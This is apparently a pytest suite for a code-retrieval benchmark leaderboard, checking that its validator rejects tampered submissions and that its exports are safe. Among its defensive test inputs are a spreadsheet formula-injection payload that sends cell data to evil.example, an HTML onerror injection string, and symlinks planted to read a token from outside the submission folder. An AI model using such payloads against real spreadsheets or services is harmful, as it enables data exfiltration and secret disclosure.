"""The leaderboard: submissions, the validator, the table, its significance, plots, the Space."""

from __future__ import annotations

import ast
import json
import math
import os
import shutil
from pathlib import Path

import pytest

from coreb_toolkit.benchmark.provenance import dataset_revision
from eval_metrics import paired_test
from model_cards.leaderboard.submission import ModelMeta, make_submission, read_submission
from model_cards.leaderboard.table import NOT_TESTED, RECOMPUTED
from model_cards.leaderboard.validate import (
    BoardDataset,
    SubmissionRejected,
    validate_submission,
)
from tests.model_cards.leaderboard_data import RELEASE, make_board_data

pd = pytest.importorskip("pandas", reason="needs pandas (the leaderboard extra)")


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    return make_board_data(tmp_path_factory.mktemp("board"))


@pytest.fixture(scope="module")
def dataset(data):
    return BoardDataset.open(data.dataset)


@pytest.fixture(scope="module")
def board(data, dataset):
    from model_cards.leaderboard.app import load_board

    return load_board(data.submissions, data.dataset, n_resamples=2000)


def _copy(data, name: str, tmp_path: Path) -> Path:
    target = tmp_path / name
    shutil.copytree(data.submissions / name, target)
    return target


def _results(folder: Path) -> dict:
    return json.loads((folder / "results.json").read_text())


def _write_results(folder: Path, res: dict) -> None:
    (folder / "results.json").write_text(json.dumps(res, indent=2))


# ---------------------------------------------------------------------------------------------
# submissions and the validator
# ---------------------------------------------------------------------------------------------


def test_make_submission_copies_and_describes(data):
    sub = read_submission(data.submissions / "minilm")
    assert sub.meta.type == "embedder" and sub.meta.parameters == 22713216
    assert sub.meta.license == "apache-2.0"
    assert read_submission(data.submissions / "bm25").meta.type == "lexical"
    reranked = read_submission(data.submissions / "bm25-minilm")
    assert (reranked.meta.type, reranked.meta.first_stage, reranked.meta.reranker) == (
        "reranked", "BM25", "minilm")  # fmt: skip
    # the first stage's runs travel with the reranked entry, byte for byte
    src = data.evaluations / "BM25" / RELEASE / "runs" / "c2c_cross_lang.trec"
    assert (reranked.first_stage_runs_dir / src.name).read_bytes() == src.read_bytes()


def test_make_submission_refuses_contradictions(data, tmp_path):
    with pytest.raises(ValueError, match="parameters=5 contradicts the results file"):
        make_submission(data.evaluations / "all-MiniLM-L6-v2" / RELEASE, tmp_path / "x",
                        parameters=5)  # fmt: skip
    with pytest.raises(ValueError, match="exists; give force=True"):
        make_submission(data.evaluations / "BM25" / RELEASE, data.submissions / "bm25")
    with pytest.raises(ValueError, match=r"ModelMeta\.type must be one of"):
        ModelMeta(name="x", type="neural")
    with pytest.raises(ValueError, match="parameters must be a positive int or null"):
        ModelMeta(name="x", type="embedder", parameters=True)


def _reference_overall_ndcg_at_10(folder: Path, dataset: BoardDataset) -> float:
    """Overall nDCG@10 of a submission's runs by pytrec_eval directly (not eval_metrics): per
    subtask the qrels with grades below 2 zeroed, the c2c anchor dropped from its query's
    ranking, ``ndcg_cut_10`` per query, 0 for a query without a grade-2 document or not ranked;
    Overall the mean over every judged query of every subtask (CoREB §4.1)."""
    import pytrec_eval

    release = dataset.release(RELEASE, "abbreviated")
    values: list[float] = []
    for name, sub in release.subtasks.items():
        run: dict[str, dict[str, float]] = {}
        for line in (folder / "runs" / f"{name}.trec").read_text().splitlines():
            qid, _, doc, _, score, _ = line.split()
            if doc not in sub.exclude.get(qid, ()):
                run.setdefault(qid, {})[doc] = float(score)
        graded = {
            q: {d: (g if g >= 2 else 0) for d, g in docs.items()}
            for q, docs in sub.qrels.items()
            if max(docs.values(), default=0) >= 2
        }
        ranked = {q: run[q] for q in graded if q in run}
        per_query = pytrec_eval.RelevanceEvaluator(
            {q: graded[q] for q in ranked}, {"ndcg_cut.10"}
        ).evaluate(ranked)
        values += [per_query[q]["ndcg_cut_10"] if q in per_query else 0.0 for q in sub.qrels]
    return math.fsum(values) / len(values)


def test_honest_submissions_pass(data, dataset):
    for name in ("bm25", "minilm", "bm25-minilm"):
        checked = validate_submission(data.submissions / name, dataset)
        reference = _reference_overall_ndcg_at_10(data.submissions / name, dataset)
        res = _results(data.submissions / name)
        overall = next(r for r in res["rows"] if r["level"] == "overall")
        recomputed = next(r for r in checked.figures.rows if r["level"] == "overall")
        assert 0.0 < reference < 1.0
        assert recomputed["ndcg_at_10"] == pytest.approx(reference, abs=1e-12)
        assert overall["ndcg_at_10"] == pytest.approx(reference, abs=1e-12)


def test_one_number_changed_is_rejected_naming_it(data, dataset, tmp_path):
    folder = _copy(data, "bm25", tmp_path)
    res = _results(folder)
    row = next(r for r in res["rows"] if r["name"] == "c2t_match")
    honest = row["recall_at_10"]
    row["recall_at_10"] = honest + 1e-6
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected) as err:
        validate_submission(folder, dataset)
    assert (err.value.row, err.value.metric) == ("c2t_match", "recall_at_10")
    assert err.value.claimed == honest + 1e-6 and err.value.recomputed == honest
    assert "subtask row 'c2t_match': recall_at_10: claimed" in str(err.value)


def test_overall_changed_is_rejected(data, dataset, tmp_path):
    folder = _copy(data, "minilm", tmp_path)
    res = _results(folder)
    res["rows"][-1]["ndcg_at_10"] += 0.01
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected, match=r"overall row 'Overall': ndcg_at_10: claimed"):
        validate_submission(folder, dataset)


def _lines(path: Path) -> list[list[str]]:
    return [line.split() for line in path.read_text().splitlines()]


def _write_lines(path: Path, lines: list[list[str]]) -> None:
    path.write_text("".join(" ".join(f) + "\n" for f in lines))


def test_swapped_scores_in_a_run_are_rejected(data, dataset, tmp_path):
    folder = _copy(data, "minilm", tmp_path)
    path = folder / "runs" / "t2c_full_retro_any.trec"
    lines = _lines(path)
    qid = lines[0][0]
    same = [i for i, f in enumerate(lines) if f[0] == qid]
    first, last = same[0], same[-1]
    # the top document and the last one trade scores (and ranks: the file stays well-formed)
    lines[first][2], lines[last][2] = lines[last][2], lines[first][2]
    _write_lines(path, lines)
    with pytest.raises(SubmissionRejected, match=r"t2c_full_retro_any'.*claimed") as err:
        validate_submission(folder, dataset)
    assert err.value.row == "t2c_full_retro_any"


def test_a_moved_run_line_is_rejected(data, dataset, tmp_path):
    folder = _copy(data, "bm25", tmp_path)
    path = folder / "runs" / "c2t_full_retro_java.trec"
    lines = _lines(path)
    lines.insert(len(lines) - 1, lines.pop(0))  # the rank-1 line moved down: same scores
    _write_lines(path, lines)
    with pytest.raises(SubmissionRejected, match=r"c2t_full_retro_java.trec:1: .* out of order"):
        validate_submission(folder, dataset)


def test_missing_subtask_wrong_revision_missing_run(data, dataset, tmp_path):
    folder = _copy(data, "bm25", tmp_path)
    res = _results(folder)
    res["rows"] = [r for r in res["rows"] if r["name"] != "c2c_cross_lang"]
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected, match=r"missing subtask\(s\) c2c_cross_lang"):
        validate_submission(folder, dataset)

    folder = _copy(data, "minilm", tmp_path / "b")
    res = _results(folder)
    res["dataset"]["revision"] = "sha256:" + "0" * 64
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected, match="is not the board's dataset") as err:
        validate_submission(folder, dataset)
    assert dataset_revision(str(data.dataset)) in str(err.value)

    folder = _copy(data, "bm25", tmp_path / "c")
    (folder / "runs" / "t2c_search_go.trec").unlink()
    with pytest.raises(SubmissionRejected, match=r"t2c_search_go.trec: missing run file"):
        validate_submission(folder, dataset)


def test_per_query_file_is_checked_against_the_runs(data, dataset, tmp_path):
    folder = _copy(data, "bm25", tmp_path)
    lines = (folder / "per_query.jsonl").read_text().splitlines()
    record = json.loads(lines[2])
    record["ndcg_at_10"] = 1.0 - record["ndcg_at_10"]  # a different value whatever it was
    lines[2] = json.dumps(record)
    (folder / "per_query.jsonl").write_text("\n".join(lines) + "\n")
    with pytest.raises(SubmissionRejected, match=r"per_query.jsonl:3: .*ndcg_at_10: claimed"):
        validate_submission(folder, dataset)


def test_reranked_first_stage_rows_are_recomputed(data, dataset, tmp_path):
    folder = _copy(data, "bm25-minilm", tmp_path)
    res = _results(folder)
    res["first_stage_rows"][0]["map_at_10"] += 0.001
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected, match=r"\(first_stage_rows\): subtask row"):
        validate_submission(folder, dataset)


# ---------------------------------------------------------------------------------------------
# the table
# ---------------------------------------------------------------------------------------------


def _claimed(data) -> dict[str, dict]:
    out = {}
    for path in data.submissions.glob("*/results.json"):
        res = json.loads(path.read_text())
        out[res["model"]["name"]] = res
    return out


def recomputed(board):
    """The board's rows recomputed from submissions (not the paper's reported rows)."""
    table = board.overall
    return table[table["Source"] == RECOMPUTED].reset_index(drop=True)


def test_table_ranks_by_overall_ndcg(board, data):
    claimed = _claimed(data)
    overall = {n: next(r for r in res["rows"] if r["level"] == "overall")["ndcg_at_10"]
               for n, res in claimed.items()}  # fmt: skip
    expected = sorted(overall, key=lambda n: -overall[n])
    mine = recomputed(board)
    assert list(mine["Model"]) == expected
    assert list(mine["Rank"]) == [1, 2, 3]
    for _, row in mine.iterrows():
        res = claimed[row["Model"]]
        tasks = {r["name"]: r["ndcg_at_10"] for r in res["rows"] if r["level"] == "task"}
        for task, value in tasks.items():
            assert row[task] == round(value, 4)
    sizes = dict(zip(mine["Model"], mine["Size"], strict=True))
    assert sizes == {"sentence-transformers/all-MiniLM-L6-v2": "<100M", "BM25": "unknown",
                     "BM25 + minilm": "unknown"}  # fmt: skip


def _per_query(folder: Path) -> dict[str, float]:
    out = {}
    for line in (folder / "per_query.jsonl").read_text().splitlines():
        rec = json.loads(line)
        out[f"{rec['subtask']}/{rec['query_id']}"] = rec["ndcg_at_10"]
    return out


def test_significance_is_the_paired_test_on_per_query_ndcg(board, data):
    folders = {read_submission(p.parent).meta.name: p.parent
               for p in data.submissions.glob("*/model_meta.json")}  # fmt: skip
    mine = recomputed(board)
    leader = mine["Model"][0]
    assert mine["vs leader"][0] == "leader"
    for i in (1, 2):
        name = mine["Model"][i]
        test = paired_test(_per_query(folders[leader]), _per_query(folders[name]),
                           n_resamples=2000)  # fmt: skip
        mark = "*" if test.p_value < 0.05 else "≈"
        assert mine["vs leader"][i] == f"{mark} p={test.p_value:.2g}"
        assert mine["Gap to leader"][i] == round(test.delta, 4)


def test_the_papers_rows_are_reported_not_recomputed(board):
    # the fixture's release is named release_v2603, a release the CoREB paper reports (Table 3)
    table = board.overall
    paper = table[table["Source"] != RECOMPUTED]
    assert len(paper) == 11
    assert set(paper["Source"]) == {"reported by the CoREB paper (Table 3), not recomputed"}
    assert set(paper["vs leader"]) == {NOT_TESTED}
    assert paper["Rank"].isna().all() and paper["Gap to leader"].isna().all()
    gem = paper[paper["Model"] == "GemEmb-2"].iloc[0]
    assert (gem["Overall"], gem["T2C"], gem["C2T"], gem["C2C"]) == (0.637, 0.434, 0.813, 0.698)
    # the whole table is ordered by Overall, paper and recomputed rows interleaved
    assert list(table["Overall"]) == sorted(table["Overall"], reverse=True)
    assert any("not recomputed" in note for note in board.notes)


def test_language_view_pools_queries(board, data):
    claimed = _claimed(data)
    res = claimed["BM25"]
    rows = {r["name"]: r for r in res["rows"] if r["level"] == "subtask"}
    # 'any': t2c_full_retro_any and c2t_canonical_retro_any, weighted by their queries
    any_subtasks = [n for n in rows if n.endswith("_any")]
    expected = sum(rows[n]["ndcg_at_10"] * rows[n]["n_queries"] for n in any_subtasks) / sum(
        rows[n]["n_queries"] for n in any_subtasks
    )
    got = board.languages.set_index("Model").loc["BM25", "Any"]
    assert got == pytest.approx(round(expected, 4), abs=1e-12)
    assert "c2c_cross_lang" not in board.languages.columns


def test_stage_view_deltas(board, data):
    res = _claimed(data)["BM25 + minilm"]
    before = next(r for r in res["first_stage_rows"] if r["level"] == "overall")["ndcg_at_10"]
    after = next(r for r in res["rows"] if r["level"] == "overall")["ndcg_at_10"]
    row = board.stages.iloc[0]
    assert (row["Model"], row["First stage"], row["Reranker"]) == ("BM25 + minilm", "BM25",
                                                                   "minilm")  # fmt: skip
    assert row["Δ Overall"] == round(after - before, 4)
    assert len(board.stages) == 1


def test_protocols_are_not_mixed(data, dataset, tmp_path):
    from model_cards.leaderboard.table import build_leaderboard

    a = validate_submission(data.submissions / "bm25", dataset)
    with pytest.raises(ValueError, match="two submissions name the same model: BM25"):
        build_leaderboard([a, a])


# ---------------------------------------------------------------------------------------------
# plots and the Space
# ---------------------------------------------------------------------------------------------


def test_pareto_frontier_by_hand():
    from model_cards.leaderboard.plots import SizedModel, pareto_frontier

    models = [SizedModel("a", 100, 0.5, True), SizedModel("b", 1000, 0.4, False),
              SizedModel("c", 2000, 0.7, False), SizedModel("d", 50, 0.3, True)]  # fmt: skip
    assert [m.name for m in pareto_frontier(models)] == ["d", "a", "c"]
    assert models[0].per_billion == pytest.approx(0.5 / 1e-7)


def test_plots_leave_out_unknown_sizes(board, tmp_path):
    pytest.importorskip("matplotlib")
    from model_cards.leaderboard.plots import (
        plot_ndcg_per_billion,
        plot_note,
        plot_parameter_efficiency,
    )

    for plot in (plot_parameter_efficiency, plot_ndcg_per_billion):
        path = plot(board, tmp_path / f"{plot.__name__}.png")
        assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert plot_note(board).startswith("Left out of the parameter-efficiency plots")
    # a Markdown note: the names in it are escaped
    assert "BM25, " in plot_note(board) or "BM25 + minilm, BM25" in plot_note(board)


def test_space_folder(board, tmp_path):
    pytest.importorskip("gradio")
    from huggingface_hub import SpaceCard

    from model_cards.leaderboard.app import write_space

    files = {p.name for p in write_space(board, tmp_path / "space")}
    assert {"app.py", "requirements.txt", "README.md", "leaderboard.json"} <= files
    card = SpaceCard.load(tmp_path / "space" / "README.md")
    assert (card.data.sdk, card.data.app_file) == ("gradio", "app.py")
    import gradio

    assert card.data.sdk_version == gradio.__version__
    reqs = (tmp_path / "space" / "requirements.txt").read_text().split()
    assert f"gradio=={gradio.__version__}" in reqs and all("==" in r for r in reqs)
    app = (tmp_path / "space" / "app.py").read_text()
    imported = {
        (n.module if isinstance(n, ast.ImportFrom) else a.name).split(".")[0]
        for n in ast.walk(ast.parse(app)) if isinstance(n, (ast.Import, ast.ImportFrom))
        for a in (n.names if isinstance(n, ast.Import) else [n])
    }  # fmt: skip
    # a Space installs only requirements.txt: the app imports gradio, pandas and the stdlib
    assert imported - {"__future__", "json", "os", "pathlib", "re", "typing"} == {
        "gradio",
        "pandas",
    }
    saved = json.loads((tmp_path / "space" / "leaderboard.json").read_text())
    assert saved["tables"]["overall"]["data"][0][1] == board.overall["Model"][0]
    assert not any(isinstance(v, float) and math.isnan(v)
                   for row in saved["tables"]["overall"]["data"] for v in row)  # fmt: skip
    with pytest.raises(ValueError, match="exists; give force=True"):
        write_space(board, tmp_path / "space")
    # the Space's app.py, loaded from the Space folder alone, builds the page of its data
    import importlib.util

    spec = importlib.util.spec_from_file_location("space_app", tmp_path / "space" / "app.py")
    space_app = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(space_app)
    shown = space_app.load_data(tmp_path / "space")
    blocks = space_app.build_page(shown, tmp_path / "space")
    assert isinstance(blocks, gradio.Blocks)
    # and its overall table holds the three submissions, the whole table ranked by Overall
    overall = space_app.frame(shown["tables"]["overall"])
    submitted = {"BM25", "BM25 + minilm", "sentence-transformers/all-MiniLM-L6-v2"}
    assert submitted <= set(overall["Model"])
    assert list(overall["Overall"]) == sorted(overall["Overall"], reverse=True)


def test_runs_must_hold_what_the_results_say(data, dataset, tmp_path):
    folder = _copy(data, "bm25-minilm", tmp_path)
    res = _results(folder)
    res["rerank_top_k"] = 1  # the reranked runs keep up to 8 per query
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected, match=r"ranks \d+ documents, more than the 1 "):
        validate_submission(folder, dataset)

    folder = _copy(data, "bm25", tmp_path / "b")
    path = folder / "runs" / "c2t_match.trec"
    lines = _lines(path)
    lines[0][2] = "code_not_in_the_text_corpus"
    _write_lines(path, lines)
    with pytest.raises(SubmissionRejected, match="'code_not_in_the_text_corpus', which is not in"):
        validate_submission(folder, dataset)


# ---------------------------------------------------------------------------------------------
# what a stranger's submission may not do (issue 27)
# ---------------------------------------------------------------------------------------------

SECRET = "TOKEN-hf_abc123 do not publish\n"


def _symlink_out(folder: Path, relative: str, tmp_path: Path) -> None:
    """Replace ``folder/relative`` with a symlink to a file outside the submission."""
    secret = tmp_path / "outside" / "token.txt"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text(SECRET)
    (folder / relative).unlink()
    (folder / relative).symlink_to(secret)


@pytest.mark.parametrize(
    ("name", "relative"),
    [
        ("bm25", "results.json"),
        ("bm25", "model_meta.json"),
        ("bm25", "per_query.jsonl"),
        ("bm25", "runs/c2c_cross_lang.trec"),
        ("bm25-minilm", "first_stage/runs/c2c_cross_lang.trec"),
    ],
)
def test_no_file_is_read_through_a_symlink_out_of_the_submission(
    data, dataset, tmp_path, name, relative
):
    folder = _copy(data, name, tmp_path)
    _symlink_out(folder, relative, tmp_path)
    with pytest.raises(SubmissionRejected, match="leads outside") as err:
        validate_submission(folder, dataset)
    assert relative.split("/")[-1] in str(err.value) and "TOKEN" not in str(err.value)


def test_a_runs_folder_linked_out_or_a_fifo_is_not_read(data, dataset, tmp_path):
    folder = _copy(data, "bm25", tmp_path)
    elsewhere = tmp_path / "elsewhere"
    shutil.move(folder / "runs", elsewhere)
    (folder / "runs").symlink_to(elsewhere)
    with pytest.raises(SubmissionRejected, match=r"runs/\w+\.trec: leads outside"):
        validate_submission(folder, dataset)

    for relative in ("runs/c2c_cross_lang.trec", "per_query.jsonl"):
        folder = _copy(data, "bm25", tmp_path / relative.replace("/", "-"))
        (folder / relative).unlink()
        os.mkfifo(folder / relative)  # reading it would block for ever
        with pytest.raises(SubmissionRejected, match=r"not a regular file \(a FIFO\)"):
            validate_submission(folder, dataset)


def test_find_submissions_refuses_a_folder_linked_out_of_the_root(data, tmp_path):
    from model_cards.leaderboard.submission import find_submissions

    root = tmp_path / "root"
    shutil.copytree(data.submissions / "bm25", root / "bm25")
    (root / "theirs").symlink_to(data.submissions / "minilm", target_is_directory=True)
    with pytest.raises(ValueError, match=r"theirs: leads outside .*root \(a symlink"):
        find_submissions(root)
    (root / "theirs").unlink()
    assert find_submissions(root) == [root / "bm25"]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("[1, 2]", r"per_query.jsonl:3: each line must be a JSON object, got list"),
        ('{"subtask": ["x"], "query_id": "q"}', r"per_query.jsonl:3: subtask and query_id must"),
        ("[" * 5000 + "]" * 5000, r"per_query.jsonl:3: nested deeper than 64 levels"),
        ('{"ndcg_at_10": 1' + "0" * 5000 + "}", r"per_query.jsonl:3: an integer of 5001 digits"),
        (b'{"subtask": "\xff"}', r"per_query.jsonl:3: not UTF-8 text"),
    ],
)
def test_a_bad_per_query_line_is_a_rejection_naming_file_and_line(
    data, dataset, tmp_path, line, message
):
    folder = _copy(data, "bm25", tmp_path)
    path = folder / "per_query.jsonl"
    lines = path.read_bytes().splitlines()
    lines[2] = line if isinstance(line, bytes) else line.encode()
    path.write_bytes(b"\n".join(lines) + b"\n")
    with pytest.raises(SubmissionRejected, match=message):
        validate_submission(folder, dataset)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("[" * 5000 + "]" * 5000, r"model_meta.json: nested deeper than 64 levels"),
        (b'{"name": "BM25\xff"}', r"model_meta.json: not UTF-8 text \(byte 0xff"),
        ('{"name": "BM25", "type": "lexical", "parameters": 1' + "0" * 5000 + "}",
         r"model_meta.json: an integer of 5001 digits"),
    ],
)  # fmt: skip
def test_a_bad_model_meta_file_is_a_rejection_naming_it(data, dataset, tmp_path, text, message):
    folder = _copy(data, "bm25", tmp_path)
    raw = text if isinstance(text, bytes) else text.encode()
    (folder / "model_meta.json").write_bytes(raw)
    with pytest.raises(SubmissionRejected, match=message):
        validate_submission(folder, dataset)


def test_rows_with_other_cutoffs_are_blamed_as_themselves(data, dataset, tmp_path):
    folder = _copy(data, "bm25", tmp_path)
    res = _results(folder)
    subtask_rows = [r for r in res["rows"] if r["level"] == "subtask"]
    odd = subtask_rows[0]["name"]
    del subtask_rows[0]["ndcg_at_5"]  # the first row lacks a cutoff every other row holds
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected, match=rf"subtask row '{odd}' holds the metrics") as e:
        validate_submission(folder, dataset)
    assert e.value.row == odd

    res = _results(folder)
    res["rows"][0]["ndcg_at_5"] = 0.5
    later = next(r for r in res["rows"][1:] if r["level"] == "subtask")
    later["ndcg_at_x"] = 0.5  # a key that looks like a metric, in a later row
    _write_results(folder, res)
    with pytest.raises(
        SubmissionRejected, match=rf"subtask row '{later['name']}': 'ndcg_at_x' is not a metric"
    ):
        validate_submission(folder, dataset)


def _renamed(data, name: str, new: str, tmp_path: Path, **meta) -> Path:
    folder = _copy(data, name, tmp_path)
    res = _results(folder)
    stored = json.loads((folder / "model_meta.json").read_text())
    res["model"]["name"] = stored["name"] = new
    stored.update(meta)
    _write_results(folder, res)
    (folder / "model_meta.json").write_text(json.dumps(stored))
    return folder


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("BM25 ", "starts or ends with whitespace"),
        ("BM\u202e25", r"holds the character U\+202E"),
        ("ＢＭ25", "not NFKC-normalised"),
        ("BМ25", "mixes letters of CYRILLIC, LATIN"),  # a Cyrillic М among Latin letters
    ],
)
def test_names_must_be_printable_and_unambiguous(name, message):
    with pytest.raises(ValueError, match=message):
        ModelMeta(name=name, type="lexical")
    with pytest.raises(ValueError, match=message):
        ModelMeta(name="x", type="reranked", first_stage="BM25", reranker=name)


def test_names_that_read_alike_or_runs_that_rank_alike_share_no_board(data, dataset, tmp_path):
    from dataclasses import replace

    from model_cards.leaderboard.app import load_board
    from model_cards.leaderboard.table import build_leaderboard

    bm25 = validate_submission(data.submissions / "bm25", dataset)
    minilm = validate_submission(data.submissions / "minilm", dataset)
    for lookalike in ("bm25", "ВМ25", "ΒΜ25"):  # lowercase, Cyrillic, Greek
        meta = replace(minilm.submission.meta, name=lookalike)
        other = replace(minilm, submission=replace(minilm.submission, meta=meta))
        with pytest.raises(ValueError, match="reads like 'BM25'"):
            build_leaderboard([bm25, other], n_resamples=100)

    # the same runs under another name (and other tags): one system submitted twice
    subs = tmp_path / "subs"
    shutil.copytree(data.submissions / "bm25", subs / "bm25")
    twin = _renamed(data, "bm25", "Okapi", subs / "twin")
    for path in (twin / "runs").iterdir():
        path.write_text(path.read_text().replace(" BM25\n", " okapi\n"))
    with pytest.raises(ValueError, match="rank every query alike: one system under two names"):
        load_board(subs, data.dataset, n_resamples=100)


def test_declared_fields_the_results_contradict_are_rejected(data, dataset, tmp_path):
    folder = _copy(data, "bm25", tmp_path)  # BM25 claiming 1 parameter tops the efficiency plot
    res = _results(folder)
    res["model"]["parameters"] = 1
    _write_results(folder, res)
    meta = json.loads((folder / "model_meta.json").read_text())
    (folder / "model_meta.json").write_text(json.dumps({**meta, "parameters": 1}))
    with pytest.raises(SubmissionRejected, match=r"a lexical retriever .* has no parameters"):
        validate_submission(folder, dataset)
    (folder / "model_meta.json").write_text(json.dumps({**meta, "type": "embedder",
                                                        "parameters": 1}))  # fmt: skip
    with pytest.raises(SubmissionRejected, match="describes a lexical model"):
        validate_submission(folder, dataset)

    folder = _copy(data, "bm25-minilm", tmp_path / "b")
    meta = json.loads((folder / "model_meta.json").read_text())
    (folder / "model_meta.json").write_text(json.dumps({**meta, "reranker": "big-reranker"}))
    with pytest.raises(SubmissionRejected, match="reranker 'big-reranker' differ from"):
        validate_submission(folder, dataset)


def test_the_board_publishes_no_local_path_and_says_what_is_self_reported(board, data, tmp_path):
    from model_cards.leaderboard.app import write_board

    write_board(board, tmp_path)
    text = (tmp_path / "leaderboard.json").read_text()
    assert str(data.dataset) not in text and str(data.dataset.resolve()) not in text
    saved = json.loads(text)
    assert saved["dataset"]["name"] == data.dataset.name
    assert any(note.startswith("Parameters, Size, Code-specialized and the untrained-reranker "
                               "flag are self-reported") for note in saved["notes"])  # fmt: skip


def _one_entry_board(board, name: str, parameters: int | None = None, *others):
    """``board``'s MiniLM entry renamed (and resized), with ``others`` beside it."""
    from dataclasses import replace

    from model_cards.leaderboard.table import build_leaderboard

    entry = next(e for e in board.entries if e.submission.meta.type == "embedder")
    meta = replace(entry.submission.meta, name=name,
                   parameters=parameters or entry.submission.meta.parameters)  # fmt: skip
    renamed = replace(entry, submission=replace(entry.submission, meta=meta), runs_digest=name)
    return build_leaderboard([renamed, *others], n_resamples=100)


def test_csv_cells_are_never_formulas(board, tmp_path):
    import csv

    from model_cards.leaderboard.app import write_board

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    write_board(_one_entry_board(board, formula), tmp_path)
    with open(tmp_path / "leaderboard.csv", newline="", encoding="utf-8") as fh:
        models = [row["Model"] for row in csv.DictReader(fh)]
    assert "'" + formula in models and formula not in models


def test_plots_draw_names_as_text_and_tell_alike_names_apart(board, tmp_path, monkeypatch):
    pytest.importorskip("matplotlib")
    from model_cards.leaderboard import plots

    # a `$` pair is mathtext to matplotlib: \foo is no command, and the build used to fail
    mathtext = _one_entry_board(board, r"$\foo$ coder")
    for plot in (plots.plot_parameter_efficiency, plots.plot_ndcg_per_billion):
        assert plot(mathtext, tmp_path / f"{plot.__name__}.png").is_file()

    base = _one_entry_board(board, "org-b/coder", 10**9)
    two = _one_entry_board(board, "org-a/coder", 10**8, base.entries[0])
    figures = []
    monkeypatch.setattr(plots, "_save", lambda fig, *_: figures.append(fig))
    plots.plot_parameter_efficiency(two, tmp_path / "a.png")
    plots.plot_ndcg_per_billion(two, tmp_path / "b.png")
    scatter, bars = (fig.axes[0] for fig in figures)
    assert {t.get_text() for t in scatter.texts} == {"org-a/coder", "org-b/coder"}
    assert [t.get_text() for t in bars.get_yticklabels()] == ["org-a/coder", "org-b/coder"]
    assert len(bars.patches) == 2 and len({p.get_y() for p in bars.patches}) == 2


@pytest.mark.parametrize(
    "text",
    ['<img src="x" onerror="a()">', "[l](http://e.example) **b** # h", r"$\foo$ a_b|c`d`",
     "line\nbreak\ttab", "&lt; ~~s~~ !x: = ' % {}"],
)  # fmt: skip
def test_the_pages_own_escaper_is_the_houses(text):
    # page.py is copied alone into a Space, so it carries a copy of markdown_text
    from coreb_toolkit.untrusted import markdown_text
    from model_cards.leaderboard import page

    assert page._markdown_text(text) == markdown_text(text)


# ---------------------------------------------------------------------------------------------
# MTEB's CoREB(v1) mean: recomputed from the submitted files, never taken on trust
# ---------------------------------------------------------------------------------------------


def test_the_coreb_v1_mean_is_recomputed_and_shown(board, data, dataset):
    from coreb_toolkit.vocabulary import COREB_V1_TASKS, coreb_v1_mean
    from model_cards.leaderboard.table import COREB_V1

    checked = validate_submission(data.submissions / "minilm", dataset)
    claimed = _results(data.submissions / "minilm")["mteb_tasks"]
    assert sorted(checked.mteb_scores) == sorted(COREB_V1_TASKS)
    for task, value in checked.mteb_scores.items():
        assert value == pytest.approx(claimed[task]["main_score"], abs=1e-12)
    row = board.overall[board.overall["Type"] == "embedder"].iloc[0]  # the minilm submission
    assert row[COREB_V1] == pytest.approx(coreb_v1_mean(checked.mteb_scores), abs=1e-4)
    # a reranked pipeline scores no MTEB task: its cell is empty, not a number
    reranked = board.overall[board.overall["Type"] == "reranked"].iloc[0]
    assert pd.isna(reranked[COREB_V1])
    assert any("CoREB(v1) MTEB mean" in note and "pull/4665" in note for note in board.notes)


def test_a_changed_mteb_figure_or_list_score_is_rejected(data, dataset, tmp_path):
    folder = _copy(data, "minilm", tmp_path / "claimed")
    res = _results(folder)
    res["mteb_tasks"]["CorebT2CReranking"]["main_score"] += 0.01
    _write_results(folder, res)
    with pytest.raises(SubmissionRejected, match=r"mteb_tasks.CorebT2CReranking.main_score"):
        validate_submission(folder, dataset)
    # a list's scores turned upside down: the recomputed MAP@10 is another
    folder = _copy(data, "minilm", tmp_path / "lists")
    path = folder / "mteb" / "reranking" / "c2t.trec"
    lines = _lines(path)
    for fields in lines:
        fields[4] = repr(-float(fields[4]))
    _write_lines(path, lines)
    with pytest.raises(SubmissionRejected, match=r"mteb_tasks.CorebC2TReranking"):
        validate_submission(folder, dataset)


def test_an_mteb_folder_linked_out_is_not_read(data, dataset, tmp_path):
    folder = _copy(data, "minilm", tmp_path)
    elsewhere = tmp_path / "elsewhere"
    shutil.move(folder / "mteb" / "reranking", elsewhere)
    (folder / "mteb" / "reranking").symlink_to(elsewhere)
    with pytest.raises(SubmissionRejected, match=r"mteb/reranking/\w+\.trec: leads outside"):
        validate_submission(folder, dataset)
